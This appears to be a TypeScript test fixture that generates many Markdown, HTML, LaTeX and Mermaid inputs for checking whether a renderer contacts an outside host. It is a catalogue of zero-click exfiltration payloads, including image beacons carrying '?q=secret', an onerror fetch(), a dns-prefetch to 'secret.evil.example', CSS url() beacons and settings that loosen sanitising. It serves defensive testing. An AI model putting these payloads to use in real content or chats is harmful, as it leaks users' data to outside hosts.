/** What somebody may write to make a page ask another host for something, by what it tries. */
export type Attempts = Readonly<Record<string, string>>;

/** Gives an address of the other host, a different one for each attempt. */
export type Elsewhere = (name: string, scheme?: 'http' | 'https') => string;

/** In Markdown alone. */
export function markdownAttempts(at: Elsewhere): Attempts {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><image href="${at('data-svg')}" width="9" height="9"/><image xlink:href="${at('data-svg-xlink')}" width="9" height="9"/><use href="${at('data-svg-use')}#a"/><style>@import url(${at('data-svg-import')});rect{fill:url(${at('data-svg-fill')}#a)}</style><rect width="9" height="9"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${at('data-svg-foreign')}"/></foreignObject><script href="${at('data-svg-script')}"/></svg>`;
  const bare = at('bare').replace(/^https?:/, '');
  return {
    picture: `![a](${at('picture')})`,
    'picture over TLS': `![a](${at('tls', 'https')})`,
    'picture without words': `![](${at('wordless')}?q=secret)`,
    'picture with a title': `![a](${at('title')} "title")`,
    'picture in angle brackets': `![a](<${at('angle')}>)`,
    'picture by reference': `![a][reference]\n\n[reference]: ${at('reference')}`,
    'picture by short reference': `![short]\n\n[short]: ${at('short')} 'x'`,
    'picture in a link': `[![a](${at('in-link')})](${at('link')})`,
    'picture in a heading': `# ![a](${at('heading')})`,
    'picture in a list': `- ![a](${at('list')})\n- [ ] ![a](${at('task')})`,
    'picture in a quote': `> ![a](${at('quote')})`,
    'picture in a table': `| a |\n|---|\n| ![a](${at('table')}) |`,
    'picture in a footnote': `A note[^1].\n\n[^1]: ![a](${at('footnote')})`,
    'picture in bold': `**![a](${at('bold')})**`,
    'picture within a picture': `![![a](${at('inner')})](${at('outer')})`,
    'scheme without slashes': `![a](${at('slashes').replace('//', '')})`,
    'scheme in capitals': `![a](${at('capitals').replace('http', 'HTTP')})`,
    'scheme with entities': `![a](${at('entities').replace('http', '&#104;ttp')})`,
    'scheme with a tab': `![a](<${at('tab').replace('http', 'ht\ttp')}>)`,
    'scheme percent-encoded': `![a](${at('percent').replace(':', '%3A')})`,
    'no scheme': `![a](${bare})`,
    'no scheme, backslashes': `![a](<${bare.replaceAll('/', '\\')}>)`,
    'scheme and backslashes': `![a](<${at('backslashes').replace('//', '\\\\')}>)`,
    'user name as host': `![a](${at('user').replace('//', '//trusted.example@')})`,
    'drawing in an address': `![a](data:image/svg+xml,${encodeURIComponent(svg)})`,
    'drawing in an address, base64': `![a](data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')})`,
    'page in an address': `![a](data:text/html,${encodeURIComponent(`<img src=${at('data-html')}>`)})`,
    'blob of another origin': `![a](blob:${at('blob')})`,
    'bare link': at('autolink'),
    'link in angle brackets': `<${at('angle-link')}>`,
    link: `[a](${at('plain-link')} "title")`,
    'source of a drawing': `\`\`\`svg\n${svg}\n\`\`\``,
    'source of a page': `\`\`\`html\n<img src="${at('code')}"><link rel=prefetch href="${at('code-prefetch')}">\n\`\`\``,
    'language of a code block': `\`\`\`js"><img src=${at('info')}>\n1\n\`\`\``,
  };
}

/** HTML among the Markdown. */
export function htmlAttempts(at: Elsewhere): Attempts {
  return {
    img: `<img src="${at('img')}">`,
    'img in a sentence': `a <img src="${at('img-inline')}" onerror="fetch('${at('onerror')}')"> b`,
    srcset: `<img srcset="${at('srcset')} 1x, ${at('srcset-2')} 2x">`,
    picture: `<picture><source srcset="${at('source')}"><img src="${at('source-img')}"></picture>`,
    'input of type image': `<input type="image" src="${at('input')}">`,
    video: `<video src="${at('video')}" poster="${at('poster')}" autoplay></video>`,
    audio: `<audio src="${at('audio')}" autoplay></audio>`,
    track: `<video><source src="${at('video-source')}"><track src="${at('track')}" default></video>`,
    prefetch: `<link rel="prefetch" href="${at('prefetch')}">`,
    preload: `<link rel="preload" as="image" href="${at('preload')}">`,
    modulepreload: `<link rel="modulepreload" href="${at('modulepreload')}">`,
    preconnect: `<link rel="preconnect" href="${at('preconnect')}">`,
    'dns-prefetch': `<link rel="dns-prefetch" href="//secret.evil.example">`,
    stylesheet: `<link rel="stylesheet" href="${at('stylesheet')}">`,
    icon: `<link rel="icon" href="${at('icon')}">`,
    manifest: `<link rel="manifest" href="${at('manifest')}">`,
    speculation: `<script type="speculationrules">{"prefetch":[{"urls":["${at('speculation')}"]}]}</script>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${at('refresh')}">`,
    base: `<base href="${at('base')}"><img src="relative.png">`,
    object: `<object data="${at('object')}"></object>`,
    embed: `<embed src="${at('embed')}">`,
    iframe: `<iframe src="${at('iframe')}"></iframe>`,
    srcdoc: `<iframe srcdoc="<img src=${at('srcdoc')}>"></iframe>`,
    script: `<script src="${at('script')}"></script>`,
    'style import': `<style>@import "${at('import')}";</style>`,
    font: `<style>@font-face{font-family:x;src:url(${at('font')})}*{font-family:x}</style>`,
    'style attribute': `<p style="background:url(${at('background')})">text</p>`,
    'background attribute': `<table background="${at('table-background')}"><tr><td>text</td></tr></table>`,
    'svg image': `<svg><image href="${at('svg-image')}"/></svg>`,
    'svg use': `<svg><use href="${at('svg-use')}#a"/></svg>`,
    'svg filter': `<svg><filter id="f"><feImage href="${at('svg-filter')}"/></filter><rect filter="url(#f)"/></svg>`,
    mathml: `<math><mtext><img src="${at('mathml')}"></mtext></math>`,
    form: `<form action="${at('form')}"><button autofocus>go</button></form>`,
    ping: `<a href="#" ping="${at('ping')}">text</a>`,
    template: `<template shadowrootmode="open"><img src="${at('shadow')}"></template>`,
    'unclosed picture': `<img src="${at('unclosed')}"`,
  };
}

/** Mathematics. */
export function mathAttempts(at: Elsewhere): Attempts {
  return {
    includegraphics: `$$\\includegraphics[height=1em]{${at('includegraphics')}}$$`,
    href: `$\\href{${at('math-href')}}{x}$`,
    url: `$\\url{${at('math-url')}}$`,
    htmlStyle: `$$\\htmlStyle{background:url(${at('html-style')})}{x}$$`,
    htmlClass: `$$\\htmlClass{x" style="background:url(${at('html-class')})}{x}$$`,
    htmlData: `$$\\htmlData{src=${at('html-data')}}{x}$$`,
    color: `$$\\color{url(${at('color')})}{x}$$`,
    textcolor: `$$\\textcolor{red;background:url(${at('text-color')})}{x}$$`,
    'text with HTML': `$$\\text{<img src=${at('math-text')}>}$$`,
    macro: `$$\\def\\a{\\includegraphics{${at('macro')}}}\\a$$`,
  };
}

type Kinds = Readonly<Record<string, (label: string) => string>>;

/** The kinds of diagrams that people use, with a place for a label. */
const KINDS: Kinds = {
  flowchart: (label) => `flowchart LR\n  A["${label}"] -->|"${label}"| B`,
  graph: (label) => `graph TD\n  A("${label}") --> B`,
  sequence: (label) => `sequenceDiagram\n  participant A as ${label}\n  A->>B: ${label}\n  Note over A: ${label}`,
  class: (label) => `classDiagram\n  class A["${label}"]\n  A <|-- B : ${label}\n  note for A "${label}"`,
  state: (label) => `stateDiagram-v2\n  a : ${label}\n  [*] --> a`,
  'entity relationship': (label) => `erDiagram\n  A["${label}"] ||--o{ B : "${label}"`,
  'user journey': (label) => `journey\n  title ${label}\n  section ${label}\n    Step: 5: Me`,
  gantt: (label) => `gantt\n  title ${label}\n  section ${label}\n  ${label.replaceAll(':', ' ')} :a1, 2026-01-01, 3d`,
  pie: (label) => `pie title ${label}\n  "${label}" : 40\n  "b" : 60`,
  quadrant: (label) => `quadrantChart\n  title ${label}\n  quadrant-1 "${label}"\n  "${label}": [0.3, 0.6]`,
  requirement: (label) => `requirementDiagram\n  requirement a {\n  id: 1\n  text: "${label}"\n  }`,
  git: (label) => `gitGraph\n  commit id: "${label}" tag: "${label}"\n  branch b\n  commit`,
  c4: (label) => `C4Context\n  title ${label}\n  Person(a, "${label}", "${label}", $sprite="${label}")`,
  mindmap: (label) => `mindmap\n  root(("${label}"))\n    a["${label}"]\n    ::icon(fa fa-book)`,
  timeline: (label) => `timeline\n  title ${label}\n  2026 : ${label}`,
  sankey: (label) => `sankey-beta\n\n"${label}",b,10\nb,c,5`,
  'xy chart': (label) => `xychart-beta\n  title "${label}"\n  x-axis ["${label}", b]\n  bar [1, 2]`,
  block: (label) => `block-beta\n  columns 2\n  a["${label}"] b`,
  packet: (label) => `packet-beta\n  0-15: "${label}"\n  16-31: "b"`,
  kanban: (label) => `kanban\n  todo[${label}]\n    a[${label}]`,
  architecture: (label) => `architecture-beta\n  group api(cloud)[${label}]\n  service db(database)[db] in api`,
  radar: (label) =>
    `radar-beta\n  title ${label}\n  axis a["${label}"], b["b"], c["c"]\n  curve x["${label}"]{1, 2, 3}`,
  treemap: (label) => `treemap-beta\n"${label}"\n    "a": 10\n    "b": 20`,
};

/** The other ones that mermaid knows, most of them in their first form. */
const RARE_KINDS: Kinds = {
  'flowchart by elk': (label) => `flowchart-elk LR\n  A["${label}"] --> B`,
  agents: (label) => `agentflow-beta\n  agent a["${label}"]\n  a --> b`,
  cynefin: (label) => `cynefin-beta\n  title ${label}\n  clear\n    "${label}"`,
  events: (label) => `eventmodeling\n  tf 01 ui ${label}\n  tf 02 cmd B`,
  info: (label) => `info showInfo\n  ${label}`,
  fishbone: (label) => `ishikawa-beta\n  ${label}\n    ${label}\n      b`,
  railroad: (label) => `railroad-beta\n  a = "${label}" ;`,
  'railroad by ABNF': (label) => `railroad-abnf-beta\n  a = "${label}"`,
  'railroad by EBNF': (label) => `railroad-ebnf-beta\n  a = "${label}" ;`,
  'railroad by PEG': (label) => `railroad-peg-beta\n  a <- "${label}"`,
  swimlanes: (label) => `swimlane-beta\n  lane a["${label}"]\n  b["${label}"]`,
  tree: (label) => `treeView-beta\n    "${label}"\n        "a"`,
  'use cases': (label) => `usecase-beta\n  actor A["${label}"]\n  A --> (${label})`,
  venn: (label) => `venn-beta\n  title "${label}"\n  set A["${label}"]\n  set B\n  union A,B["${label}"]`,
  wardley: (label) => `wardley-beta\ntitle ${label}\ncomponent ${label} [0.5, 0.5]`,
};

/** The rare kinds with hostile labels and settings. */
export function rareDiagramAttempts(at: Elsewhere): Attempts {
  return Object.fromEntries(kindAttempts(RARE_KINDS, at));
}

function kindAttempts(kinds: Kinds, at: Elsewhere): (readonly [string, string])[] {
  return Object.entries(kinds).flatMap(([kind, draw]) => {
    const name = kind.replaceAll(' ', '-');
    const init = {
      htmlLabels: true,
      securityLevel: 'loose',
      themeCSS: `*{background:url(${at(`${name}-css`)})}`,
      fontFamily: `x;background:url(${at(`${name}-font`)})`,
      flowchart: { htmlLabels: true },
    };
    return [
      [`${kind}: label`, draw(`<img src='${at(`${name}-label`)}'>`)],
      [`${kind}: settings`, `%%{init: ${JSON.stringify(init)}}%%\n${draw('Label')}`],
    ] as const;
  });
}

/** Diagrams: their kinds with hostile labels, and everything that a description can set. */
export function diagramAttempts(at: Elsewhere): Attempts {
  const front = (config: string, body = 'flowchart LR\n  A --> B') => `---\nconfig:\n${config}\n---\n${body}`;
  return {
    ...Object.fromEntries(kindAttempts(KINDS, at)),
    'node with a picture': `flowchart TD\n  A@{ img: "${at('node-img')}", label: "a", w: 60, h: 60 }\n  A --> B`,
    'node with an icon': `flowchart TD\n  A@{ icon: "${at('node-icon')}", form: "square" }`,
    'node with an icon of a set': `flowchart TD\n  A@{ icon: "logos:aws" }\n  B["fa:fa-user b"]`,
    'style of a node': `flowchart TD\n  A --> B\n  style A fill:url(${at('node-style')}),background:url(${at('node-style-2')})`,
    'class of nodes': `flowchart TD\n  A:::x --> B\n  classDef x fill:url(${at('class-def')})`,
    'style of a link': `flowchart TD\n  A --> B\n  linkStyle 0 stroke:url(${at('link-style')})`,
    'click to an address': `flowchart TD\n  A --> B\n  click A "${at('click')}" "tip" _blank`,
    'click to a call': `flowchart TD\n  A --> B\n  click A call fetch("${at('click-call')}")`,
    'label in Markdown': `flowchart TD\n  A["\`![a](${at('label-md')})\`"]`,
    'label with mathematics': `flowchart TD\n  A["$$\\includegraphics{${at('label-math')}}$$"]`,
    'front matter: styles': front(`  themeCSS: "*{background:url(${at('front-css')})}"`),
    'front matter: labels': front('  htmlLabels: true', `flowchart LR\n  A["<img src='${at('front-label')}'>"]`),
    'front matter: fonts': front(`  fontFamily: "x, url(${at('front-font')})"`),
    'front matter: colours': front(
      `  theme: base\n  themeVariables:\n    primaryColor: "url(${at('front-colour')})"\n    fontFamily: "url(${at('front-family')})"`,
    ),
    'front matter: what is let through': front(
      `  dompurifyConfig:\n    ADD_TAGS: [iframe, link]\n    ADD_ATTR: [src, href]`,
      `flowchart LR\n  A["<iframe src='${at('front-frame')}'></iframe>"]`,
    ),
    'directive after the beginning': `flowchart LR\n  %%{init: {"themeCSS": "@import url(${at('late-import')});"}}%%\n  A --> B`,
    'links of actors': `sequenceDiagram\n  participant A\n  link A: Site @ ${at('actor-link')}\n  A->>A: x`,
    'sprite of a person': `C4Context\n  Person(a, "A")\n  UpdateElementStyle(a, $bgColor="url(${at('c4-style')})", $sprite="${at('c4-sprite')}")`,
    'drawn by hand': front('  look: handDrawn', `flowchart LR\n  A["<img src='${at('hand')}'>"]`),
    'another layout': front('  layout: elk', `flowchart LR\n  A["<img src='${at('elk')}'>"] --> B`),
  };
}
